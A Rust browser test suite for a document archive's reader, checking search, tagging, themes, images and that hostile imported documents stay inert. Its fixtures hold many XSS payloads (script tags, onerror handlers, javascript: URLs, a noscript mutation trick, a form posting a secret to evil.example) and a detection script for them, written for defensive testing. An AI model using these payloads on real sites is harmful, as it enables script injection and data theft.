//! The reader in a real headless Chromium, driven through chromedriver on
//! loopback: what a person sees when they open the library, search, read, change
//! the theme, tag, use the keyboard and come back to a long piece; and that
//! hostile documents stay inert on every page. Every page is checked for console
//! errors and for requests to another host; screenshots are saved under the
//! target folder's `browser-screenshots/` for review.
//!
//! Runs when Chromium and chromedriver are installed (Debian's `chromium` and
//! `chromium-driver`, as `.ci/run` installs them; `DOSSIER_CHROMIUM` and
//! `DOSSIER_CHROMEDRIVER` name others). Without them each test says it was
//! skipped and how to run it, and passes: the rest of the suite needs no browser.

use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};

use serde_json::Value;

#[path = "support/process.rs"]
mod process;
#[path = "support/webdriver.rs"]
mod webdriver;

use webdriver::Browser;

const TITLE: &str =
    "According to a lawsuit, Facebook allowed Netflix to view users' text messages without their consent.";
const SEED: &str = "000_b389a61e5b667c13.txt";
const ENTER: &str = "\u{E007}";

/// `dossier serve` on a free loopback port over a fresh archive of `imports`.
struct Server {
    child: Child,
    address: String,
}

impl Server {
    fn start(home: &Path, imports: &[PathBuf]) -> Server {
        let mut child = process::dossier(home)
            .arg("--db")
            .arg(home.join("archive.db"))
            .args(["serve", "--addr", "127.0.0.1:0"])
            .args(imports.iter().flat_map(|path| [Path::new("--import"), path.as_path()]))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let address = process::served_address(&mut child);
        Server { child, address }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Chromium and chromedriver, or `None` after saying how to run the test.
fn binaries(test: &str) -> Option<(PathBuf, PathBuf)> {
    let found = webdriver::browser_binaries();
    if found.is_none() {
        eprintln!(
            "{test} skipped: Chromium or chromedriver not found. Install Debian's `chromium` and \
             `chromium-driver` (as .ci/run does), or set DOSSIER_CHROMIUM and DOSSIER_CHROMEDRIVER, to run it."
        );
    }
    found
}

fn screenshots() -> PathBuf {
    // CARGO_TARGET_TMPDIR is `<target>/tmp`: screenshots go beside it.
    Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().join("browser-screenshots")
}

/// What every page must hold to: nothing from another host, nothing in the console.
fn check_page(browser: &Browser, server: &Server, what: &str) {
    let origin = server.url("/");
    for address in browser.requested() {
        assert!(address.starts_with(&origin), "{what}: a request to another host: {address}");
    }
    let errors = browser.console_errors();
    assert!(errors.is_empty(), "{what}: console errors: {errors:?}");
}

fn texts(browser: &Browser, css: &str) -> Vec<String> {
    browser.try_texts(css).unwrap_or_else(|error| panic!("{error}"))
}

fn script_string(browser: &Browser, script: &str) -> String {
    browser.run(script).as_str().unwrap_or_default().to_owned()
}

/// Whether the page (while it may be being replaced) shows exactly `expected` at `css`.
fn shows(browser: &Browser, css: &str, expected: &[&str]) -> bool {
    browser.try_texts(css).is_ok_and(|texts| texts == expected)
}

/// Waits for the browser to arrive at a page whose address contains `part`.
fn wait_for_url(browser: &Browser, part: &str) {
    browser.wait_until(&format!("an address with {part}"), |browser| browser.url().contains(part), |_| ());
}

const LONG_PIECE: &str =
    "---\ntitle: The harbour works, month by month\nsite: The Courier\ndate: 2024-05-01\n---\n\n";

fn long_piece() -> String {
    let mut text = LONG_PIECE.to_owned();
    for (month, name) in ["January", "February", "March", "April", "May", "June"].iter().enumerate() {
        text.push_str(&format!("## {name}\n\n"));
        for paragraph in 0..4 {
            text.push_str(&format!(
                "In {name} the crews on the harbour wall worked through paragraph {paragraph} of month {month}. \
                 The council counted the costs again, and the engineers wrote down what the tide had taken \
                 and what the new stones would need before the storms of the autumn came back to the coast.\n\n"
            ));
        }
    }
    text
}

#[test]
fn a_reader_searches_reads_tags_and_changes_the_theme() {
    let Some((chromium, chromedriver)) = binaries("the reader's browser test") else { return };
    let home = tempfile::tempdir().unwrap();
    let fixtures = home.path().join("fixtures");
    std::fs::create_dir(&fixtures).unwrap();
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../seeds");
    std::fs::copy(seeds.join(SEED), fixtures.join(SEED)).unwrap();
    std::fs::write(fixtures.join("harbour.md"), long_piece()).unwrap();
    let server = Server::start(home.path(), &[fixtures]);
    let browser = Browser::start(&chromium, &chromedriver, &home.path().join("profile"));
    let shots = screenshots();

    // The library.
    browser.goto(&server.url("/"));
    let titles = texts(&browser, "ol.library h2");
    assert!(titles.contains(&TITLE.to_owned()), "{titles:?}");
    assert_eq!(titles.len(), 2);
    assert_eq!(browser.text(&browser.find("p.count")), "2 documents, 2 unread");
    browser.screenshot(&shots.join("library.png"));
    check_page(&browser, &server, "the library");

    // The keyboard: j and k move between entries, with the focus in sight; m marks
    // the entry read; o opens it; / goes to the search box.
    browser.press("jjk");
    assert_eq!(script_string(&browser, "return document.activeElement.textContent;"), titles[0]);
    assert_eq!(
        script_string(&browser, "return getComputedStyle(document.activeElement).outlineStyle;"),
        "solid",
        "the focus is visible"
    );
    browser.press("m");
    browser.wait_until(
        "the entry marked read",
        |browser| shows(browser, "p.count", &["2 documents, 1 unread"]),
        |_| (),
    );
    browser.press("jo");
    wait_for_url(&browser, "/documents/");
    assert_eq!(browser.text(&browser.find("h1")), titles[0]);
    assert_eq!(browser.text(&browser.find("#read-form .state")), "Read");
    browser.goto(&server.url("/"));
    browser.press("/");
    assert_eq!(script_string(&browser, "return document.activeElement.id;"), "quick-q");

    // Search from the box in the header.
    browser.press(&format!("inbox{ENTER}"));
    wait_for_url(&browser, "/search?q=inbox");
    let marks = texts(&browser, "ol.hits mark");
    assert!(marks.iter().any(|mark| mark.to_lowercase().starts_with("inbox")), "{marks:?}");
    assert_eq!(texts(&browser, "ol.hits h2"), [TITLE]);
    browser.screenshot(&shots.join("search.png"));
    check_page(&browser, &server, "the search");

    // Open the article.
    browser.click(&browser.find("ol.hits h2 a"));
    wait_for_url(&browser, "/documents/");
    let article = browser.url();
    assert_eq!(browser.text(&browser.find("h1")), TITLE);
    assert!(texts(&browser, ".quotes footer").contains(&"— Meta spokesperson".to_owned()));
    assert_eq!(browser.text(&browser.find("#read-form .state")), "Unread");
    check_page(&browser, &server, "the article");

    // Change the theme to dark: the page comes back dark.
    browser.click(&browser.find("details.display summary"));
    browser.click(&browser.find("#display-theme option[value=dark]"));
    browser.click(&browser.find("#display-font option[value=sans]"));
    browser.click(&browser.find("details.display button"));
    browser.wait_until(
        "the dark theme",
        |browser| {
            browser
                .try_run("return document.documentElement.className;")
                .is_ok_and(|classes| classes.as_str().unwrap_or_default().contains("theme-dark"))
        },
        |_| (),
    );
    assert_eq!(browser.url(), article, "back on the article");
    assert_eq!(
        script_string(&browser, "return getComputedStyle(document.body).backgroundColor;"),
        "rgb(27, 27, 26)"
    );
    let font =
        script_string(&browser, "return getComputedStyle(document.querySelector('.body')).fontFamily;");
    assert!(font.starts_with("system-ui"), "{font}");
    browser.screenshot(&shots.join("article-dark.png"));
    check_page(&browser, &server, "the article in the dark theme");

    // Add a tag, then mark the article read with the keyboard.
    browser.type_into(&browser.find("#add-tag"), "lawsuit");
    browser.click(&browser.find(".add-tag button"));
    browser.wait_until(
        "the new tag",
        |browser| shows(browser, ".reader-actions .tag a", &["lawsuit"]),
        |_| (),
    );
    browser.press("m");
    browser.wait_until(
        "the article marked read",
        |browser| shows(browser, "#read-form .state", &["Read"]),
        |_| (),
    );
    browser.screenshot(&shots.join("article-tagged.png"));
    check_page(&browser, &server, "the tagged article");

    // The tag's page.
    browser.click(&browser.find(".reader-actions .tag a"));
    wait_for_url(&browser, "/tags/lawsuit");
    assert_eq!(browser.text(&browser.find("h1")), "Tagged “lawsuit”");
    assert_eq!(texts(&browser, "ol.library h2"), [TITLE]);
    assert_eq!(browser.text(&browser.find("p.count")), "1 document, 0 unread");
    browser.goto(&server.url("/"));
    assert_eq!(browser.text(&browser.find("p.count")), "2 documents, 0 unread");
    check_page(&browser, &server, "the tag's page");

    // A name in the text leads to everything the archive says of that person.
    browser.goto(&article);
    let name = browser
        .find_all(".body a.entity")
        .into_iter()
        .find(|link| browser.text(link) == "Mark Zuckerberg")
        .expect("the name links to its entity");
    browser.click(&name);
    wait_for_url(&browser, "/entities/");
    assert_eq!(browser.text(&browser.find("h1")), "Mark Zuckerberg");
    assert!(texts(&browser, ".entity-list a").contains(&"Reed Hastings".to_owned()), "named with");
    browser.screenshot(&shots.join("entity.png"));
    check_page(&browser, &server, "the entity's page");
    browser.click(&browser.find("header.site a[href='/timeline']"));
    wait_for_url(&browser, "/timeline");
    let dates = texts(&browser, ".timeline time");
    for date in ["2011", "2018", "October 2021", "23 March 2024"] {
        assert!(dates.contains(&date.to_owned()), "{date} in {dates:?}");
    }
    browser.screenshot(&shots.join("timeline.png"));
    check_page(&browser, &server, "the timeline");

    // A long piece remembers where the reader stopped.
    browser.goto(&server.url("/"));
    let link = browser
        .find_all("ol.library h2 a")
        .into_iter()
        .find(|link| browser.text(link) == "The harbour works, month by month")
        .expect("the long piece is listed");
    browser.click(&link);
    wait_for_url(&browser, "/documents/");
    let long = browser.url();
    assert_eq!(texts(&browser, ".toc li").len(), 6, "a table of contents");
    browser.run("document.querySelector('.body').children[12].scrollIntoView();");
    browser.goto(&server.url("/"));
    browser.wait_until(
        "the reading position saved",
        |browser| shows(browser, ".resume a", &["Continue where you left off"]),
        |browser| browser.goto(&long),
    );
    let scrolled = browser.run("return window.scrollY;").as_f64().unwrap_or_default();
    assert!(scrolled > 500.0, "the page opens where the reader stopped: {scrolled}");
    browser.screenshot(&shots.join("long-piece-resumed.png"));
    check_page(&browser, &server, "the long piece");
}

#[test]
fn a_saved_pages_images_show_from_the_archive_and_nowhere_else() {
    let Some((chromium, chromedriver)) = binaries("the images' browser test") else { return };
    let home = tempfile::tempdir().unwrap();
    let fixtures = home.path().join("saved");
    std::fs::create_dir_all(fixtures.join("crane_files")).unwrap();
    std::fs::write(fixtures.join("crane_files/crane.png"), dossier_synth::PNG_2X2).unwrap();
    std::fs::write(
        fixtures.join("crane.html"),
        "<!doctype html><html lang=en><head><title>Crane removed</title></head><body><article>\
         <h1>Crane removed from the quay</h1><p>The crane over the northern quay was taken down on Tuesday \
         after inspectors found cracked welds in its boom, the harbour authority said.</p>\
         <figure><img src=\"crane_files/crane.png\" alt=\"The crane on the quay\"><figcaption>Before it came \
         down.</figcaption></figure><figure><img src=\"https://photos.example/crane.jpg\" alt=\"Elsewhere\">\
         <figcaption>A photograph kept elsewhere.</figcaption></figure><p>Dockworkers moved to the southern \
         quay while engineers decide whether the crane can be repaired or must be replaced.</p>\
         </article></body></html>",
    )
    .unwrap();
    let server = Server::start(home.path(), &[fixtures]);
    let browser = Browser::start(&chromium, &chromedriver, &home.path().join("profile"));

    browser.goto(&server.url("/"));
    browser.click(&browser.find("ol.library h2 a"));
    wait_for_url(&browser, "/documents/");
    browser.wait_until(
        "the image loaded",
        |browser| {
            browser
                .try_run("var image = document.querySelector('figure img'); return image !== null && image.complete;")
                .is_ok_and(|complete| complete.as_bool() == Some(true))
        },
        |_| (),
    );
    let images: Value = browser.run(
        "return Array.prototype.map.call(document.querySelectorAll('img'), function (image) { \
           return [image.getAttribute('src'), image.alt, image.naturalWidth]; });",
    );
    let images = images.as_array().unwrap();
    assert_eq!(images.len(), 1, "the local copy only: {images:?}");
    assert!(images[0][0].as_str().unwrap().starts_with("/images/"), "{images:?}");
    assert_eq!(images[0][1], "The crane on the quay");
    assert_eq!(images[0][2], 2, "the browser decoded the stored image: {images:?}");
    assert_eq!(texts(&browser, "figcaption"), ["Before it came down.", "A photograph kept elsewhere."]);
    browser.screenshot(&screenshots().join("article-image.png"));
    check_page(&browser, &server, "the article with images");
}

/// Hostile documents in every format the archive reads.
fn write_hostile_fixtures(folder: &Path) {
    std::fs::write(
        folder.join("hostile.html"),
        r#"<!doctype html><html><head><title>Hostile page <script>window.pwned = 'title'</script></title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>body { background: url(https://evil.example/bg.png) } p { display: none }</style>
<link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js"></script>
</head><body><article><h1 onclick="window.pwned = 'h1'">A hostile page with tricks</h1>
<p>The first paragraph <script>window.pwned = 'inline'</script> has <img src="https://evil.example/p.gif" onerror="window.pwned = 'img'"> an image and <a href="javascript:window.pwned = 'link'">a javascript link</a> in it, with more words to make it a paragraph.</p>
<p>An SVG <svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg script'</script><a xlink:href="javascript:window.pwned = 'xlink'"><text>x</text></a></svg> and MathML <math><mi xlink:href="javascript:window.pwned = 'math'">x</mi><maction actiontype="statusline">y</maction></math> inside a paragraph of text that goes on.</p>
<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: red">A paragraph that tries to cover the whole page with a red box and more words.</p>
<iframe src="https://evil.example/frame"></iframe><object data="data:text/html,<script>parent.pwned = 'object'</script>"></object><embed src="https://evil.example/e.swf">
<p>A <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a> and <b>broken <i>markup</p></div></span> that never closes <unclosed
<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>">A noscript trick paragraph with words.</p></noscript>
<form action="https://evil.example/steal"><input name="secret"><button>Send</button></form>
<p>The last paragraph of the hostile page says plainly that nothing above may run or load from anywhere.</p>
</article></body></html>"#,
    )
    .unwrap();
    std::fs::write(
        folder.join("hostile.md"),
        "---\ntitle: \"<img src=x onerror=window.pwned='md title'> Markdown tricks\"\nsite: \"<script>window.pwned='site'</script>\"\nurl: \"javascript:window.pwned='url'\"\n---\n\n\
         A paragraph with <script>window.pwned = 'md script'</script> raw HTML and a [link](javascript:window.pwned='md link').\n\n\
         ![an image](https://evil.example/tracker.png) and <svg><animate onbegin=\"window.pwned='animate'\"/></svg> more.\n\n\
         - a list item with <style>*{display:none}</style> style\n- a list item with [a data link](data:text/html,hi)\n\n\
         > A quote with <iframe src=\"https://evil.example/\"></iframe> a frame.\n",
    )
    .unwrap();
    std::fs::write(
        folder.join("hostile.txt"),
        "title: \"><script>window.pwned='text'</script><p x=\"\nsite: ' onmouseover='window.pwned=1\nurl: data:text/html,<script>alert(1)</script>\n\n\
         Plain text that mentions </p></article><script>window.pwned='plain'</script> and {{ template }} syntax {% raw %}.\n",
    )
    .unwrap();
}

/// Everything on the page that could run, load or cover: none may be there.
const ACTIVE_CONTENT: &str = r#"
var found = [];
document.querySelectorAll('*').forEach(function (element) {
  Array.prototype.forEach.call(element.attributes, function (attribute) {
    var name = attribute.name.toLowerCase();
    if (name.indexOf('on') === 0) found.push(element.tagName + ' ' + name);
    if (name === 'style') found.push(element.tagName + ' style');
    if (/^(href|src|action|formaction|data|xlink:href)$/.test(name)
        && /^\s*(javascript|data|vbscript):/i.test(attribute.value)) found.push(element.tagName + ' ' + name);
    if (/^(href|src|action|formaction)$/.test(name) && /^\s*(https?:)?\/\//i.test(attribute.value)
        && element.tagName !== 'A') found.push(element.tagName + ' ' + name + ' to another host');
  });
});
document.querySelectorAll('script').forEach(function (script) {
  if (script.getAttribute('src') !== '/static/reader.js' || script.textContent !== '') found.push('a script');
});
document.querySelectorAll('iframe, frame, object, embed, svg, math, img, style, base, meta[http-equiv], form:not([action^="/"])')
  .forEach(function (element) { found.push(element.tagName); });
if (window.pwned !== undefined) found.push('ran: ' + window.pwned);
return found;
"#;

#[test]
fn hostile_documents_are_inert_on_every_page() {
    let Some((chromium, chromedriver)) = binaries("the hostile documents' browser test") else { return };
    let home = tempfile::tempdir().unwrap();
    let fixtures = home.path().join("hostile");
    std::fs::create_dir(&fixtures).unwrap();
    write_hostile_fixtures(&fixtures);
    let server = Server::start(home.path(), &[fixtures]);
    let browser = Browser::start(&chromium, &chromedriver, &home.path().join("profile"));
    let shots = screenshots();

    browser.goto(&server.url("/"));
    let links: Vec<String> = serde_json::from_value(
        browser.run("return Array.prototype.map.call(document.querySelectorAll('ol.library h2 a'), function (a) { return a.href; });"),
    )
    .unwrap();
    assert_eq!(links.len(), 3, "every hostile file was imported");

    // A hostile tag, added through the page.
    browser.goto(&links[0]);
    browser.type_into(&browser.find("#add-tag"), "<img src=x onerror=window.pwned='tag'>");
    browser.click(&browser.find(".add-tag button"));
    browser.wait_until(
        "the hostile tag",
        |browser| shows(browser, ".reader-actions .tag a", &["<img src=x onerror=window.pwned='tag'>"]),
        |_| (),
    );
    let tag_page: String = browser
        .run("return document.querySelector('.reader-actions .tag a').href;")
        .as_str()
        .unwrap()
        .to_owned();

    let mut pages = vec![
        server.url("/"),
        server.url("/tags"),
        tag_page,
        server.url("/search?q=paragraph"),
        server.url("/entities"),
        server.url("/timeline"),
        server.url("/quotes"),
    ];
    pages.extend(links.iter().cloned());
    for (index, page) in pages.iter().enumerate() {
        browser.goto(page);
        let found: Value = browser.run(ACTIVE_CONTENT);
        assert_eq!(found, Value::Array(Vec::new()), "{page}: active content");
        assert!(!browser.text(&browser.find("h1")).is_empty(), "{page}: a heading a person can read");
        browser.screenshot(&shots.join(format!("hostile-{index}.png")));
        check_page(&browser, &server, page);
    }

    // The markup is shown as the text it is.
    browser.goto(&server.url("/"));
    let titles = texts(&browser, "ol.library h2");
    assert!(
        titles.iter().any(|title| title.contains("<img src=x onerror=window.pwned='md title'>")),
        "{titles:?}"
    );
    assert!(
        titles.iter().any(|title| title.contains("\"><script>window.pwned='text'</script>")),
        "{titles:?}"
    );
    let tags = texts(&browser, "ol.library .tags a");
    assert_eq!(tags, ["<img src=x onerror=window.pwned='tag'>"]);
}
